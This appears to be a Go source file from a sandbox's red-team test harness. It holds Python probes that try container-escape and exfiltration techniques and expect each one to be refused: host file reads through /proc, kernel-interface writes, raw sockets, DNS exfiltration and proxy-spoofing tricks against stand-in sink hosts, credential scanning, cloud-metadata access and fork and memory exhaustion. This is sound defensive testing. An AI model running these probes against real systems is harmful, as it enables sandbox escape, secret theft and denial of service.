package redteam

import (
	"fmt"
	"slices"
	"strings"
)

// prelude is the Python every probe starts with: t(name, fn) records "ok" when fn
// succeeds (an attack that must fail) or the error's class and errno.
const prelude = `import json, os, socket, struct, sys, time
r = {}
def t(k, f):
    try:
        v = f()
        r[k] = "ok" if v is None or v else "refused: empty"
    except Exception as e:
        r[k] = "refused: " + type(e).__name__ + " " + str(getattr(e, "errno", "") or "")
SINK = b"moat-redteam-sink"
def tcp(host, port, payload, fam=socket.AF_INET, want=None):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(1.5)
    try:
        s.connect((host, port))
        s.sendall(payload)
        d = s.recv(256)
        if not d:
            raise ConnectionError("closed without an answer")
        if want is not None and want not in d:
            raise ConnectionError("answered, not by the sink: %r" % d[:40])
        return True
    finally:
        s.close()
def udp(host, port, payload, fam=socket.AF_INET):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    try:
        s.sendto(payload, (host, port))
        d, _ = s.recvfrom(512)
        return bool(d)
    finally:
        s.close()
def dnsq(name, qtype=1):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\x00" + struct.pack(">HH", qtype, 1)
def dns_answered(host, port, name, qtype=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1.0)
    try:
        s.sendto(dnsq(name, qtype), (host, port))
        d, _ = s.recvfrom(1500)
        if len(d) < 12 or struct.unpack(">H", d[6:8])[0] == 0:
            raise LookupError("no answer")
        return True
    finally:
        s.close()
`

const statusScript = `
st = {}
for line in open("/proc/self/status"):
    k, _, v = line.partition(":")
    st[k] = v.strip()
for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "Seccomp", "NoNewPrivs"):
    r[k] = st.get(k, "")
print(json.dumps(r))
`

// Catalog is the battery, in report order.
func Catalog() []Probe {
	return []Probe{
		{Name: "host-filesystem", What: "read a host canary file and create a file beside it (plain paths, /proc/1/root, /proc/self/root)",
			Threat: "§1 host filesystem", Sandbox: "main", Check: checkHostFS, Script: `
for p in ("{{CANARY}}", "/proc/1/root{{CANARY}}", "/proc/self/root{{CANARY}}", "/proc/1/cwd{{CANARY}}"):
    t("read " + p, lambda: sys.stdout.write(open(p).read() + "\n"))
for p in ("{{CANARYDIR}}/written", "/proc/1/root{{CANARYDIR}}/written"):
    t("write " + p, lambda: open(p, "w").write("x"))
print(json.dumps(r))
`},
		{Name: "capabilities", What: "CapEff/CapPrm/CapBnd within moat's set (no NET_RAW, SYS_ADMIN, MKNOD…), CapInh = CapAmb = 0",
			Threat: "§2 capabilities", Sandbox: "main", Check: checkCaps, Script: statusScript},
		{Name: "seccomp", What: "the sandbox's processes run under a seccomp filter (mode 2)",
			Threat: "§2 system calls", Sandbox: "main", Check: checkSeccomp, Script: statusScript},
		{Name: "uid-map", What: "root inside is not host root (user namespace map)",
			Threat: "§2 user namespace", Sandbox: "main", Check: checkUIDMap, Script: `
r["uid_map"] = open("/proc/self/uid_map").read().strip().split("\n")[0]
print(json.dumps(r))
`},
		{Name: "devices-proc", What: "/dev/mem, /dev/kmem, mknod, /proc/kcore, /proc/sysrq-trigger, /proc/sys and /sys writes, /sys/firmware",
			Threat: "§2 kernel interfaces", Sandbox: "main", Check: checkDevices, Script: `
t("open /dev/mem", lambda: open("/dev/mem", "rb").read(1))
t("open /dev/kmem", lambda: open("/dev/kmem", "rb").read(1))
t("open /dev/port", lambda: open("/dev/port", "rb").read(1))
t("mknod char 1:1", lambda: os.mknod("/tmp/.redteam-mem", 0o20600, os.makedev(1, 1)))
t("read /proc/kcore", lambda: len(open("/proc/kcore", "rb").read(16)) > 0)
t("write /proc/sysrq-trigger", lambda: open("/proc/sysrq-trigger", "w").write("h"))
def same(p):
    v = open(p).read()
    with open(p, "w") as f:
        f.write(v if v.strip() else "\n")
t("write /proc/sys/kernel/core_pattern", lambda: same("/proc/sys/kernel/core_pattern"))
t("write /proc/sys/kernel/modprobe", lambda: same("/proc/sys/kernel/modprobe"))
t("write /sys/kernel/uevent_helper", lambda: same("/sys/kernel/uevent_helper"))
t("write /sys/kernel/mm/transparent_hugepage/enabled", lambda: open("/sys/kernel/mm/transparent_hugepage/enabled", "w").write("never"))
t("list /sys/firmware", lambda: len(os.listdir("/sys/firmware")) > 0)
print(json.dumps(r))
`},
		{Name: "module-autoload", What: "socket families whose first use makes the kernel load a module (appletalk, x25, ax25, ipx, decnet, rds, tipc, caif, kcm, smc…): the host's module list must not grow",
			Threat: "§2 kernel modules", Sandbox: "main", Check: checkModules, Script: `
for fam in (3, 4, 5, 9, 12, 19, 21, 24, 30, 33, 35, 36, 37, 40, 41, 43, 45):
    for typ in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
        try:
            socket.socket(fam, typ, 0).close()
            r["af%d" % fam] = "opened"
            break
        except Exception as e:
            r["af%d" % fam] = "refused: " + type(e).__name__
print(json.dumps(r))
`},
		{Name: "raw-sockets", What: "raw IPv4/IPv6 and packet sockets (spoofing, sniffing, router advertisements)",
			Threat: "§3 raw network", Sandbox: "main", Check: allRefused, Script: `
t("raw AF_INET icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close())
t("raw AF_INET tcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP).close())
t("raw AF_INET6 icmpv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close())
t("AF_PACKET raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close())
t("AF_PACKET dgram", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0).close())
print(json.dumps(r))
`},
		{Name: "direct-egress", What: "TCP, UDP, ICMP and IPv6 straight to the host's loopback sinks, the gateway and TEST-NET addresses",
			Threat: "§3 network egress", Sandbox: "main", Check: checkSinks, Script: `
tok = b"{{TOKEN}}"
for h in ("127.0.0.1", "198.18.0.1", "198.51.100.7"):
    t("tcp %s:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok, want=SINK))
    t("udp %s:{{UDP}}" % h, lambda: udp(h, {{UDP}}, tok))
for h in ("::1", "2001:db8::7", "::ffff:127.0.0.1"):
    t("tcp [%s]:{{TCP}}" % h, lambda: tcp(h, {{TCP}}, tok, socket.AF_INET6, want=SINK))
    t("udp [%s]:{{UDP}}" % h, lambda: udp(h, {{UDP}}, tok, socket.AF_INET6))
def ping(h):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.settimeout(1.0)
    try:
        s.sendto(b"\x08\x00\x00\x00\x12\x34\x00\x01" + tok, (h, 0))
        return bool(s.recv(512))
    finally:
        s.close()
for h in ("198.18.0.1", "198.51.100.7"):
    t("icmp echo " + h, lambda: ping(h))
print(json.dumps(r))
`},
		{Name: "dns-exfil", What: "names carrying data under a sink domain, through the sandbox's resolver and straight to the sink: the upstream sink must never see them",
			Threat: "§3 DNS", Sandbox: "main", Check: checkSinks, Script: `
t("getaddrinfo", lambda: socket.getaddrinfo("{{TOKEN}}.exfil.redteam.invalid", 443))
for qt in (1, 16, 28, 255):
    t("udp 198.18.0.1:53 type %d" % qt, lambda: dns_answered("198.18.0.1", 53, "{{TOKEN}}.q%d.exfil.redteam.invalid" % qt, qt))
for h in ("127.0.0.1", "198.18.0.1"):
    t("udp %s:{{DNS}}" % h, lambda: dns_answered(h, {{DNS}}, "{{TOKEN}}.direct.exfil.redteam.invalid"))
print(json.dumps(r))
`},
		{Name: "proxy-control", What: "control: a request to the allowed, pinned sink name reaches the sink (the receivers work)",
			Sandbox: "main", NeedsPin: true, Control: true, Check: checkControl, Script: `
def ctl():
    s = socket.create_connection(("{{PIN}}", {{TCP}}), timeout=3)
    s.sendall(b"GET /{{TOKEN}} HTTP/1.1\r\nHost: {{PIN}}\r\n\r\n")
    r["answer"] = s.recv(64).decode(errors="replace")
    s.close()
try:
    ctl(); r["ctl"] = "reached"
except Exception as e:
    r["ctl"] = "failed: " + repr(e)
print(json.dumps(r))
`},
		{Name: "proxy-tricks", What: "a direct IP with a Host or SNI naming the allowed host, and the allowed host's address with another Host",
			Threat: "§3 egress proxy", Sandbox: "main", NeedsPin: true, Check: checkSinks, Script: `
import ssl
tok = "{{TOKEN}}"
def http(host, hdr):
    return tcp(host, {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: %s\r\n\r\n" % (tok, hdr)).encode(), want=SINK)
t("direct IP, Host: {{PIN2}}", lambda: http("198.51.100.7", "{{PIN2}}"))
t("direct IP, Host: {{PIN2}}:{{TCP}}", lambda: http("198.51.100.7", "{{PIN2}}:{{TCP}}"))
t("allowed name, Host: other", lambda: http("{{PIN2}}", "evil.redteam.invalid"))
t("allowed name, two Hosts", lambda: tcp("{{PIN2}}", {{TCP}}, ("GET /%s HTTP/1.1\r\nHost: evil.redteam.invalid\r\nHost: {{PIN2}}\r\n\r\n" % tok).encode(), want=SINK))
def tls(host, sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    s = socket.create_connection((host, {{TCP}}), timeout=1.5)
    try:
        ctx.wrap_socket(s, server_hostname=sni).sendall(tok.encode())
    finally:
        s.close()
t("direct IP, SNI {{PIN2}}", lambda: tls("198.51.100.7", "{{PIN2}}"))
print(json.dumps(r))
`},
		{Name: "credential-leak", What: "a bound secret's value is nowhere inside: environments, files, and the answer of an upstream that echoes the injected request",
			Threat: "§6 credentials", Sandbox: "main", NeedsPin: true, Control: true, Check: checkCredential, Script: `
import re
pat = re.compile(rb"moat-secret-[0-9a-f]{24}")
found = set()
ph = os.environ.get("{{SECRETENV}}", "")
r["placeholder"] = "set" if ph else "missing"
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for f in ("environ", "cmdline"):
            try:
                found.update(pat.findall(open("/proc/%s/%s" % (pid, f), "rb").read()))
            except Exception:
                pass
for d in ("/etc", "/run", "/tmp", "/root", "/home", "/var/run", "/var/tmp", "/moat", "/workspace"):
    for root, dirs, files in os.walk(d):
        for f in files:
            try:
                p = os.path.join(root, f)
                if os.path.isfile(p) and os.path.getsize(p) < (1 << 20):
                    found.update(pat.findall(open(p, "rb").read()))
            except Exception:
                pass
try:
    s = socket.create_connection(("{{PIN}}", {{TCP}}), timeout=3)
    s.sendall(("GET /echo/{{TOKEN}} HTTP/1.1\r\nHost: {{PIN}}\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % ph).encode())
    body = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        body += d
    s.close()
    r["echo"] = "answered" if b"{{TOKEN}}" in body else "no echo"
    found.update(pat.findall(body))
except Exception as e:
    r["echo"] = "failed: " + repr(e)
r["found"] = sorted(x.decode() for x in found)
print(json.dumps(r))
`},
		{Name: "metadata", What: "the cloud metadata address 169.254.169.254 (and its IPv6 and name forms)",
			Threat: "§3 metadata", Sandbox: "main", Check: allRefused, Script: `
req = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nMetadata-Flavor: Google\r\n\r\n"
t("tcp 169.254.169.254:80", lambda: tcp("169.254.169.254", 80, req))
t("tcp [fd00:ec2::254]:80", lambda: tcp("fd00:ec2::254", 80, req, socket.AF_INET6))
t("tcp [::ffff:169.254.169.254]:80", lambda: tcp("::ffff:169.254.169.254", 80, req, socket.AF_INET6))
t("resolve metadata.google.internal", lambda: socket.getaddrinfo("metadata.google.internal", 80))
print(json.dumps(r))
`},
		{Name: "daemon-socket", What: "the daemon's API socket and run directory are not visible or reachable inside",
			Threat: "§4 daemon API", Sandbox: "main", Check: allRefused, Script: `
def unix(p):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(1.0)
    try:
        s.connect(p)
    finally:
        s.close()
for p in ("{{SOCK}}", "/run/moat/moat.sock"):
    t("connect " + p, lambda: unix(p))
t("list {{RUNDIR}}", lambda: len(os.listdir("{{RUNDIR}}")) > 0)
print(json.dumps(r))
`},
		{Name: "pids-limit", What: "a fork loop stops at the sandbox's process limit",
			Threat: "§5 resource limits", Sandbox: "pids", MayKill: true, Check: checkPids, Script: `
n, kids = 0, []
for i in range({{PIDS}} * 2):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(20)
        os._exit(0)
    kids.append(pid)
    n += 1
for k in kids:
    os.kill(k, 9)
for k in kids:
    os.waitpid(k, 0)
print(json.dumps({"forks": n, "limit": {{PIDS}}}))
`},
		{Name: "memory-limit", What: "touching twice the sandbox's memory limit fails or is killed",
			Threat: "§5 resource limits", Sandbox: "memory", MayKill: true, Check: checkMemory, Script: `
print(json.dumps({"alloc": "started"}), flush=True)
n = {{MEM}} * 2
try:
    b = bytearray(n * 1024 * 1024)
    for i in range(0, len(b), 4096):
        b[i] = 1
    print(json.dumps({"alloc": "ok", "mib": n}), flush=True)
except MemoryError:
    print(json.dumps({"alloc": "MemoryError"}), flush=True)
`},
	}
}

// Render fills a probe's script from vars ({{KEY}} → value) after the prelude.
func Render(p Probe, vars map[string]string) string {
	s := prelude + p.Script
	for k, v := range vars {
		s = strings.ReplaceAll(s, "{{"+k+"}}", v)
	}
	return s
}

// CheckNames refuses a probe name the catalog does not have, naming those it has.
func CheckNames(names []string) error {
	var all []string
	for _, p := range Catalog() {
		all = append(all, p.Name)
	}
	for _, n := range names {
		if !slices.Contains(all, n) {
			return fmt.Errorf("unknown probe %q; the probes are %s", n, strings.Join(all, ", "))
		}
	}
	return nil
}
